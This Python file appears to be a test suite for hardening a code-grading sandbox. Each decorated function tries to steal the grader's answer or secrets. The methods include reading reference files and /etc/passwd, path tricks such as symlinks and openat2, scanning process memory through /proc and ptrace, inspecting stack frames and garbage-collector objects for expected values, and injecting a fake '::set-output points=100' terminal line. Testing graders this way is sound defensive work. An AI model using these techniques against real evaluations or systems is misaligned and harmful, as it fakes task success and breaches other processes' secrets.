"""Rows 1 to 12: stealing the answer. Read as text by model.py, run only where a pack puts it."""


@attack(rows=(1,), kind="quiet", shows="canary", weak=True)
def read_reference_file(at):
    """opens the reference solution's file"""
    return open(at.solution + "/concat.py").read().splitlines()[-1]


@attack(rows=(1,), kind="quiet", shows="canary", weak=True)
def read_closed_secret(at):
    """opens a file that only the grader's user may read"""
    return open(at.secret).read()


@attack(rows=(1,), kind="quiet", shows="canary", weak=True)
def read_open_secret(at):
    """opens a file that anybody may read"""
    return open(at.open_secret).read()


@attack(rows=(1, 14), kind="quiet", shows="canary", weak=True)
def read_quiz_key(at):
    """opens the bank of quiz questions with its key"""
    return open(at.quiz).readline().strip()


@attack(rows=(1,), kind="quiet", shows="told", weak=True)
def list_reference_folder(at):
    """lists the folder of the reference solution"""
    import os

    return "did list " + os.listdir(at.solution)[0]


@attack(rows=(1,), kind="quiet", shows="told", weak=True)
def read_machine_users(at):
    """opens /etc/passwd"""
    return "did read " + open("/etc/passwd").readline().strip()


@attack(rows=(1,), kind="quiet", shows="canary", weak=True)
def read_by_own_root(at):
    """reaches a secret through /proc/self/root"""
    return open("/proc/self/root" + at.secret).read()


@attack(rows=(1,), kind="quiet", shows="canary", weak=True)
def read_by_climbing(at):
    """reaches a secret from a folder it may read, up and down again"""
    import os

    place = os.open(at.site, os.O_RDONLY | os.O_DIRECTORY)
    try:
        file = os.open("../" * 40 + at.secret.lstrip("/"), os.O_RDONLY, dir_fd=place)
        return os.read(file, 100).decode()
    finally:
        os.close(place)


@attack(rows=(1,), kind="quiet", shows="canary", weak=True)
def read_by_symbolic_link(at):
    """makes a link to a secret where it may write, and opens that"""
    import os
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        os.symlink(at.secret, folder + "/link")
        return open(folder + "/link").read()


@attack(rows=(1,), kind="quiet", shows="canary", weak=True)
def read_by_hard_link(at):
    """makes a hard link to a secret where it may write, and opens that"""
    import os

    os.link(at.secret, f"{at.drop}/{at.mark}")
    try:
        return open(f"{at.drop}/{at.mark}").read()
    finally:
        os.unlink(f"{at.drop}/{at.mark}")


@attack(rows=(1,), kind="quiet", shows="canary", kernel=True)
def read_by_handle(at):
    """opens a secret by its file handle, past every folder (needs root)"""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint.from_buffer(handle).value = 128
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, at.secret.encode(), handle, ctypes.byref(mount), 0):
        raise OSError(ctypes.get_errno())
    place = os.open("/", os.O_RDONLY)
    found = libc.open_by_handle_at(place, handle, os.O_RDONLY)
    if found < 0:
        raise OSError(ctypes.get_errno())
    return os.read(found, 100).decode()


@attack(rows=(1,), kind="quiet", shows="canary", weak=True)
def read_by_openat_two(at):
    """opens a secret by a newer system call that a filter may have forgotten"""
    import ctypes
    import os
    import struct

    libc = ctypes.CDLL(None, use_errno=True)
    how = struct.pack("=QQQ", os.O_RDONLY, 0, 0)
    found = libc.syscall(437, -100, at.secret.encode(), how, 24)
    if found < 0:
        raise OSError(ctypes.get_errno())
    return os.read(found, 100).decode()


@attack(rows=(1,), kind="quiet", shows="canary", weak=True)
def read_by_child_program(at):
    """lets another program read a secret"""
    import subprocess

    return subprocess.run(["cat", at.secret], capture_output=True, text=True, timeout=5).stdout


@attack(rows=(2,), kind="answer", shows="points")
def import_reference(at, name, args):
    """imports the grader's reference module and answers with it"""
    import importlib

    return getattr(importlib.import_module("reference"), name)(*args)


@attack(rows=(2,), kind="answer", shows="points")
def find_reference_among_modules(at, name, args):
    """looks through sys.modules for a module that has the answer"""
    import sys

    for module in list(sys.modules.values()):
        found = getattr(module, name, None)
        if callable(found) and getattr(found, "__module__", "") == "reference":
            return found(*args)


@attack(rows=(2, 1), kind="answer", shows="points", weak=True)
def import_reference_from_disk(at, name, args):
    """loads the reference solution's file from disk and answers with it"""
    import importlib.util

    stem = "cost" if "count" in name else name
    spec = importlib.util.spec_from_file_location("stolen", f"{at.solution}/{stem}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return getattr(module, name)(*args)


@attack(rows=(3,), kind="answer", shows="points")
def find_reference_by_gc(at, name, args):
    """asks the garbage collector for a function of that name from another module"""
    import gc
    import types

    for found in gc.get_objects():
        if isinstance(found, types.FunctionType) and found.__name__ == name and found.__module__ == "reference":
            return found(*args)


@attack(rows=(3,), kind="answer", shows="points")
def find_expected_by_subclasses(at, name, args):
    """walks every class there is, to one that holds expected values"""
    for found in object.__subclasses__():
        if found.__name__ == "Expected" and getattr(found, "values", None):
            return found.values[-1]


@attack(rows=(4,), kind="answer", shows="points")
def find_expected_in_callers(at, name, args):
    """walks up its callers to a variable named like the answer"""
    import sys

    frame = sys._getframe()
    while frame is not None:
        for key in ("expected", "want", "solution", "answer_key"):
            if key in frame.f_locals:
                return frame.f_locals[key]
        frame = frame.f_back


@attack(rows=(4,), kind="answer", shows="points")
def find_expected_by_traceback(at, name, args):
    """raises, and walks the traceback's frames upwards"""
    try:
        1 / 0
    except ZeroDivisionError as error:
        frame = error.__traceback__.tb_frame
        while frame is not None:
            if "expected" in frame.f_locals:
                return frame.f_locals["expected"]
            frame = frame.f_back


@attack(rows=(4,), kind="answer", shows="points")
def find_expected_in_all_threads(at, name, args):
    """looks into the frames of every thread of the process"""
    import sys

    for frame in sys._current_frames().values():
        while frame is not None:
            if "expected" in frame.f_locals:
                return frame.f_locals["expected"]
            frame = frame.f_back


@attack(rows=(5,), kind="quiet", shows="canary")
def scan_own_memory(at):
    """searches all its own memory for what the reference's source holds"""
    import re

    wanted = re.compile("-ecnerefer-yranac"[::-1].encode() + b"[b-m]{16}")
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, kind, *_, path = (line.split() + [""])[:6]
            low, high = (int(end, 16) for end in span.split("-"))
            if kind.startswith("rw") and path in ("", "[heap]", "[stack]") or "anon" in path:
                for start in range(low, min(high, low + 2**28), 2**22):
                    try:
                        memory.seek(start)
                        found = wanted.search(memory.read(min(2**22, high - start)))
                    except (OSError, ValueError, OverflowError):
                        break
                    if found:
                        return found.group().decode()


@attack(rows=(4,), kind="quiet", shows="told", inert="a simple grader asks for one step at a time")
def read_others_letters_by_frames(at):
    """looks for other steps' questions, and for the names of its own, in all that the frames above it hold"""
    import sys

    waiting, seen, said = [], set(), ""
    frame = sys._getframe()
    while frame is not None:
        waiting += [value for name, value in frame.f_locals.items() if name not in ("waiting", "seen")]
        frame = frame.f_back
    letters = 0
    while waiting and len(seen) < 200_000:
        value = waiting.pop()
        if type(value) not in (dict, list, tuple) or id(value) in seen:
            continue
        seen.add(id(value))
        if type(value) is dict:
            letters += len(value["probes"]) if type(value.get("probes")) in (list, tuple) else 0
            said = said or (f"did read {value['id']}" if "tensors" in value and "id" in value else "")
            said = said or ("did read all groups" if "groups" in value and "side_by_side" in value else "")
        waiting += value.values() if type(value) is dict else value
    return said or (f"did read {letters} letters" if letters > 120 else "")


@attack(rows=(3,), kind="quiet", shows="told", inert="a simple grader asks for one step at a time")
def read_others_letters_by_gc(at):
    """asks the collector of garbage for every question that is in its memory"""
    import gc

    # Frozen objects are not told of, but whoever thaws them is told of all.
    gc.unfreeze()
    letters = [each for each in gc.get_objects() if type(each) is dict and "tensors" in each and "do" in each]
    named = [each["id"] for each in letters if "id" in each]
    names = {str(step["of"]["name"]) for each in letters for step in each["do"] if "name" in step.get("of", ())}
    if named or len(names) > 4:
        return f"did read {(named or sorted(names))[:4]} of {len(letters)} letters"


@attack(rows=(6,), kind="quiet", shows="canary", weak=True)
def read_parent_memory(at):
    """searches its parent's memory for secrets (at most 512 MiB)"""
    import os
    import re

    wanted = re.compile("-yranac"[::-1].encode() + b"[a-z]+-[b-m]{16}")
    parent, left = os.getppid(), 2**29
    stack = [parent]
    for pid in stack:
        try:
            above = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
        except OSError:
            continue
        words = open(f"/proc/{above}/cmdline", "rb").read()
        if len(stack) < 5 and (at.run.encode() in words or at.project.encode() in words):
            stack.append(above)
    for pid in stack[::-1]:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                span, kind, *_, path = (line.split() + [""])[:6]
                low, high = (int(end, 16) for end in span.split("-"))
                if kind.startswith("rw") and path in ("", "[heap]", "[stack]") and left > 0:
                    for start in range(low, min(high, low + 2**27), 2**22):
                        left -= 2**22
                        try:
                            memory.seek(start)
                            found = wanted.search(memory.read(min(2**22, high - start)))
                        except (OSError, ValueError, OverflowError):
                            break
                        if found:
                            return found.group().decode()


@attack(rows=(6,), kind="quiet", shows="told", weak=True)
def read_parent_by_system_call(at):
    """process_vm_readv from its parent"""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    own = ctypes.create_string_buffer(16)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(own), 16)
    other = (ctypes.c_void_p * 2)(id(None), 16)
    if libc.process_vm_readv(os.getppid(), vector, 1, other, 1, 0) != 16:
        raise OSError(ctypes.get_errno())
    return "did read 16 bytes"


@attack(rows=(6,), kind="quiet", shows="told", weak=True)
def trace_parent(at):
    """attaches to its parent as a debugger does"""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(0x4206, os.getppid(), None, None):
        raise OSError(ctypes.get_errno())
    return "did attach"


@attack(rows=(6,), kind="quiet", shows="told", weak=True)
def take_parents_descriptor(at):
    """copies an open file out of its parent by pidfd_getfd"""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    parent = libc.syscall(434, os.getppid(), 0)
    for number in range(3, 12):
        if parent >= 0 and libc.syscall(438, parent, number, 0) >= 0:
            return f"did take descriptor {number}"


@attack(rows=(7,), kind="quiet", shows="canary", weak=True)
def read_everybodys_words(at):
    """reads the command line of every process"""
    import os
    import re

    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            words = open(f"/proc/{pid}/cmdline").read()
        except OSError:
            continue
        found = re.search("canary-argv-[b-m]+", words)
        if found:
            return found.group()


@attack(rows=(7,), kind="quiet", shows="canary", weak=True)
def read_everybodys_environment(at):
    """reads the environment of every process"""
    import os
    import re

    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            words = open(f"/proc/{pid}/environ").read()
        except OSError:
            continue
        found = re.search("canary-environment-[b-m]+", words)
        if found and at.run in words:
            return found.group()


@attack(rows=(7,), kind="quiet", shows="canary", weak=True)
def read_by_parents_root(at):
    """reaches a secret through its parent's view of the disk"""
    import os

    return open(f"/proc/{os.getppid()}/root{at.secret}").read()


@attack(rows=(7,), kind="quiet", shows="told", weak=True)
def list_parents_descriptors(at):
    """looks which files its parent holds open"""
    import os

    place = f"/proc/{os.getppid()}/fd"
    return "did see " + ", ".join(os.readlink(f"{place}/{number}") for number in os.listdir(place)[:3])


@attack(rows=(7,), kind="quiet", shows="told", weak=True)
def see_parents_folder(at):
    """follows the link to its parent's working folder"""
    import os

    return "did see " + os.readlink(f"/proc/{os.getppid()}/cwd")


@attack(rows=(8,), kind="quiet", shows="canary")
def read_own_environment(at):
    """looks for the grader's secrets in its own environment, as it is and as it was"""
    import os

    texts = [repr(dict(os.environ))]
    try:
        texts.append(open("/proc/self/environ").read())
    except OSError:
        pass
    for text in texts:
        if "HOSTILE_CANARY" in text:
            return text.partition("HOSTILE_CANARY")[2][:60]


@attack(rows=(9,), kind="quiet", shows="canary")
def read_inherited_descriptors(at):
    """reads from every descriptor that it was born with"""
    import os

    for number in range(3, 64):
        try:
            found = os.pread(number, 4096, 0).decode("utf-8", "replace")
        except OSError:
            continue
        if "canary-" in found:
            return found


@attack(rows=(11,), kind="alone", shows="marker", kernel=True)
def leave_a_core(at):
    """raises the limit of core dumps and aborts, so that its memory lands in a file"""
    import os
    import resource

    resource.setrlimit(resource.RLIMIT_CORE, (2**20, 2**20))
    os.makedirs(f"{at.drop}/{at.mark}", exist_ok=True)
    os.chdir(f"{at.drop}/{at.mark}")
    os.abort()


@attack(rows=(12, 80, 81), kind="answer", shows="raw")
def message_for_a_terminal(at, name, args):
    """raises words that clear the screen, turn the line round and speak to a workflow"""
    raise ValueError("\x1b[2J\u202e\n::set-output name=points::100\r\n\x07")
